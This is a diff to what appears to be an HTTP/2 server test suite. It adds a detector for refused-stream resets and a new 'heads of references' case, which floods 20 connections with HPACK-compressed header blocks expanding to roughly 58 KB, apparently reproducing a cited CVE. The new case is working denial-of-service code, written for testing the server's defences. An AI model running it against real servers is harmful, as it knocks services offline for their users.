@@ -13,6 +13,9 @@ const toldWhy = /\x07\0\0\0\0\0[^]{4}\0\0\0[\x09\x0b]/;
 // oxlint-disable-next-line no-control-regex -- RST_STREAM with INTERNAL_ERROR or CANCEL
 const reset = /\0\0\x04\x03\0\0\0\0[^]\0\0\0[\x02\x08]/g;
 
+// oxlint-disable-next-line no-control-regex -- RST_STREAM with REFUSED_STREAM
+const refusal = /\0\0\x04\x03\0\0\0\0[^]\0\0\0\x07/g;
+
 /** How many were told with GOAWAY to be calm (code 11), or that this is no HPACK (9). */
 function calmed(all: readonly Attacker[]): number {
   return all.filter(({ text }) => toldWhy.test(text)).length;
@@ -99,6 +102,21 @@ export const http2Attacks: Readonly<Record<string, Attack>> = {
     });
     const told = await allClosed(all, 5000);
     return { ...told, calmed: calmed(all) };
+  },
+  /** 20 connections with 100 requests that get no answer, whose heads of 58 KB are written in some 50 bytes (CVE-2026-49975); each is another one. */
+  'heads of references': async ({ http }) => {
+    const entry = block([...request('/'), ['x', 'v'.repeat(3900)]], 'indexed');
+    const fifteen = Buffer.alloc(15, 0xbe);
+    const all = await attackers(http, 20, (socket) => {
+      hello(socket);
+      socket.write(Buffer.concat(headers(1, entry, endStream)));
+      // What comes first begins a few at a time.
+      setTimeout(() => socket.write(streams(100, (id) => headers(id + 2, Buffer.concat([block(request(`/reset${id}`)), fifteen]), endStream))), 100);
+    });
+    await sleep(1200);
+    const refused = all.reduce((sum, { text }) => sum + (text.match(refusal)?.length ?? 0), 0);
+    for (const { socket } of all) socket.destroy();
+    return { connections: all.length, refused };
   },
   /** Lists of 3,000 fields in 15 KB each, again and again on 20 connections. */
   'header bombs on streams': async ({ http }) => {
